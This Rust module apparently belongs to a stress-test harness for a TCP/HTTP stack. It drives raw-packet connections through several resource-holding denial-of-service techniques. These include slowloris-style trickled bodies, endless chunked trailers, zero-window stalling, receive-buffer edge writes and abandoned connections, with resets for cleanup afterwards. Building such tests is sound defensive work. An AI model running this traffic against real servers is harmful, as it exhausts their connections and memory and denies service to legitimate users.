//! The peers that hold connections, with as much TCP as they need to stay connected.

use std::collections::{HashMap, VecDeque};
use std::sync::atomic::Ordering;
use std::thread;
use std::time::{Duration as Span, Instant as Moment};

use host::{StackConfig, Tuple};
use wire::{Control, SeqNum, WindowScale};

use super::{Holding, Meter};
use crate::Result;
use crate::hostile::{ATTACK, Addresses, OVER, PORT, RESET, SharedState};
use crate::raw::{self, RawDevice, ReceivedSegment};

/// New connections per second.
const OPEN_RATE: f64 = 2_500.0;
/// Time after which a new connection without an answer counts as refused.
const ANSWER_TIMEOUT: Span = Span::from_secs(1);
/// The window of a peer without window scaling, in bytes.
const WINDOW: u16 = u16::MAX;
/// Resets sent at once: no more than the device's queue holds.
const RESET_BATCH: usize = 16;

/// Runs the peers in the attacked phases and returns the number of packets sent. `late` is the
/// interval of peers that act as late as possible.
pub(super) fn holders(
    holding: Holding,
    addresses: Addresses,
    device: RawDevice,
    late: Span,
    shared: &SharedState,
    meter: &Meter,
) -> Result<u64> {
    let (opening, acting) = (VecDeque::new(), VecDeque::new());
    let mut holders = Holders {
        holding,
        addresses,
        device,
        late,
        peers: HashMap::new(),
        opening,
        acting,
        unreleased: Vec::new(),
    };
    let (mut begin, mut due) = (Moment::now(), 0.0);
    loop {
        let phase = shared.phase.load(Ordering::Relaxed);
        match phase {
            OVER => return Ok(holders.device.sent),
            ATTACK => {
                // A backlog of connections is limited, so that it is not opened in one burst.
                due = (due + begin.elapsed().as_secs_f64() * OPEN_RATE).min(OPEN_RATE / 50.0);
                while due >= 1.0 && holders.peers.len() < holding.connections() {
                    holders.open()?;
                    due -= 1.0;
                }
                holders.act()?;
            }
            RESET if !meter.all_reset.load(Ordering::Relaxed) => holders.reset(meter)?,
            _ => {}
        }
        begin = Moment::now();
        while let Some(heard) = holders.device.receive()? {
            if phase == ATTACK {
                holders.answer(&heard)?;
            }
        }
        thread::sleep(Span::from_micros(500));
    }
}

struct Holders {
    holding: Holding,
    addresses: Addresses,
    device: RawDevice,
    late: Span,
    peers: HashMap<Tuple, Peer>,
    /// New connections with the deadline of their answer.
    opening: VecDeque<(Moment, Tuple)>,
    /// Connections with the time of their next action.
    acting: VecDeque<(Moment, Tuple)>,
    /// Connections that only the server may still hold, with the next sequence number to send.
    unreleased: Vec<(Tuple, SeqNum)>,
}

#[derive(Debug, Clone, Copy)]
struct Peer {
    /// The next sequence number to send (SND.NXT).
    next: SeqNum,
    /// The next sequence number expected (RCV.NXT); `None` before the server's SYN-ACK.
    expected: Option<SeqNum>,
    /// Unused bytes of its window.
    window_left: u16,
    /// The server has sent a segment after the handshake.
    answered: bool,
    /// The peer belongs to the second half.
    odd: bool,
    /// The peer has opened its window by one byte.
    window_opened: bool,
}

impl Holders {
    fn open(&mut self) -> Result<()> {
        let from = self.device.random_endpoint();
        let (local, local_port) = (from.ip(), from.port());
        let tuple = Tuple { local, remote: self.addresses.server, local_port, remote_port: PORT };
        let (seq, odd) = (SeqNum::new(self.device.draw()), self.device.draw().is_multiple_of(2));
        let peer = Peer {
            next: seq + 1,
            expected: None,
            window_left: WINDOW,
            answered: false,
            odd,
            window_opened: false,
        };
        self.peers.insert(tuple, peer);
        self.opening.push_back((Moment::now() + ANSWER_TIMEOUT, tuple));
        let mut syn = raw::syn(seq, false);
        if self.holding == Holding::WindowEdge {
            // Without window scaling the server's window would end at 64 KiB.
            syn.options.window_scale = Some(WindowScale::clamped(7));
        }
        self.device.send(&tuple, &syn, &[])
    }

    /// Drops a connection without informing the server.
    fn forget(&mut self, tuple: &Tuple) {
        if let Some(peer) = self.peers.remove(tuple) {
            self.unreleased.push((*tuple, peer.next));
        }
    }

    /// Performs the actions that are due.
    fn act(&mut self) -> Result<()> {
        let now = Moment::now();
        while let Some((_, tuple)) = self.opening.pop_front_if(|(due, _)| *due <= now) {
            if self.peers.get(&tuple).is_some_and(|peer| !peer.answered) {
                self.forget(&tuple);
            }
        }
        let Some(interval) = self.interval() else { return Ok(()) };
        while let Some((due, tuple)) = self.acting.pop_front_if(|(due, _)| *due <= now) {
            let Some(peer) = self.peers.get_mut(&tuple) else { continue };
            let Some(expected) = peer.expected else { continue };
            let next = peer.next;
            self.acting.push_back((due + interval, tuple));
            match self.holding {
                Holding::TricklingBodies => {
                    peer.next = next + 1;
                    self.device.send(&tuple, &raw::plain(next, expected, WINDOW), b"x")?;
                }
                Holding::EndlessTrailers => {
                    let lines = b"A: 456\r\n".repeat(if peer.odd { 128 } else { 1 });
                    peer.next = next + u32::try_from(lines.len())?;
                    self.device.send(&tuple, &raw::plain(next, expected, WINDOW), &lines)?;
                }
                Holding::LateBytes if peer.odd => {
                    peer.window_opened = true;
                    self.device.send(&tuple, &raw::plain(next, expected, 1), &[])?;
                }
                Holding::LateBytes => {
                    peer.expected = Some(expected + 1);
                    self.device.send(&tuple, &raw::plain(next, expected + 1, WINDOW), &[])?;
                }
                Holding::WindowEdge | Holding::UnreadLists => {}
            }
        }
        Ok(())
    }

    /// Interval between two unsolicited actions of a connection.
    fn interval(&self) -> Option<Span> {
        match self.holding {
            Holding::TricklingBodies => Some(Span::from_secs(4)),
            Holding::EndlessTrailers => Some(Span::from_millis(250)),
            Holding::LateBytes => Some(self.late),
            Holding::WindowEdge | Holding::UnreadLists => None,
        }
    }

    /// Handles a segment for a peer.
    fn answer(&mut self, heard: &ReceivedSegment) -> Result<()> {
        let ReceivedSegment { tuple, segment, payload } = heard;
        let Some(peer) = self.peers.get_mut(tuple) else { return Ok(()) };
        if segment.control == Control::Rst {
            self.peers.remove(tuple);
            return Ok(());
        }
        let Some(expected) = peer.expected else {
            if segment.control == Control::Syn {
                peer.expected = Some(segment.seq + 1);
                let mut peer = *peer;
                self.request(tuple, &mut peer)?;
                self.peers.insert(*tuple, peer);
                if let Some(interval) = self.interval() {
                    self.acting.push_back((Moment::now() + interval, *tuple));
                }
            }
            return Ok(());
        };
        peer.answered |= segment.control != Control::Syn;
        let in_order = segment.seq == expected;
        match self.holding {
            Holding::UnreadLists if !payload.is_empty() => {
                // Like the kernel when an application does not read.
                let payload_len = u16::try_from(payload.len())?;
                let taken = if in_order { payload_len.min(peer.window_left) } else { 0 };
                peer.window_left -= taken;
                let expected = expected + u32::from(taken);
                peer.expected = Some(expected);
                self.device.send(tuple, &raw::plain(peer.next, expected, peer.window_left), &[])?;
            }
            Holding::TricklingBodies | Holding::EndlessTrailers
                if in_order && segment.seq_len() > 0 =>
            {
                let expected = expected + segment.seq_len();
                peer.expected = Some(expected);
                self.device.send(tuple, &raw::plain(peer.next, expected, WINDOW), &[])?;
            }
            Holding::LateBytes if peer.odd && !payload.is_empty() => {
                let taken = u32::from(std::mem::take(&mut peer.window_opened) && in_order);
                peer.expected = Some(expected + taken);
                self.device.send(tuple, &raw::plain(peer.next, expected + taken, 0), &[])?;
            }
            _ => {}
        }
        if segment.control == Control::Fin {
            // The server has finished. It has to detect that the peer is gone.
            self.forget(tuple);
        }
        Ok(())
    }

    /// Completes the handshake and sends the request.
    fn request(&mut self, tuple: &Tuple, peer: &mut Peer) -> Result<()> {
        let (from, ack) = (peer.next, peer.expected.unwrap_or(peer.next));
        if self.holding == Holding::WindowEdge {
            self.device.send(tuple, &raw::plain(from, ack, WINDOW), &[])?;
            let edge = from + (StackConfig::new(Vec::new()).tcp.receive_buffer - 1);
            return self.device.send(tuple, &raw::plain(edge, ack, WINDOW), b"x");
        }
        let (line, fields) = match self.holding {
            Holding::UnreadLists => ("GET /many/", ""),
            Holding::TricklingBodies => ("HEAD /small", "Content-Length: 60000\r\n"),
            Holding::EndlessTrailers => ("HEAD /small", "Transfer-Encoding: chunked\r\n"),
            Holding::WindowEdge | Holding::LateBytes => ("GET /big", ""),
        };
        let chunk = if self.holding == Holding::EndlessTrailers { "0\r\n" } else { "" };
        let text = format!("{line} HTTP/1.1\r\nHost: x\r\n{fields}\r\n{chunk}");
        peer.next = from + u32::try_from(text.len())?;
        let window = if self.holding == Holding::LateBytes && peer.odd { 0 } else { WINDOW };
        self.device.send(tuple, &raw::plain(from, ack, window), text.as_bytes())
    }

    /// Resets some of the connections, and reports when none is left.
    fn reset(&mut self, meter: &Meter) -> Result<()> {
        self.unreleased.extend(self.peers.drain().map(|(tuple, peer)| (tuple, peer.next)));
        (self.opening, self.acting) = (VecDeque::new(), VecDeque::new());
        let kept = self.unreleased.len().saturating_sub(RESET_BATCH);
        for (tuple, next) in self.unreleased.drain(kept..) {
            // Twice, because a reset may be lost while other packets arrive.
            for _ in 0..2 {
                self.device.send(&tuple, &raw::reset(next), &[])?;
            }
        }
        if self.unreleased.is_empty() {
            meter.all_reset.store(true, Ordering::Relaxed);
        }
        Ok(())
    }
}
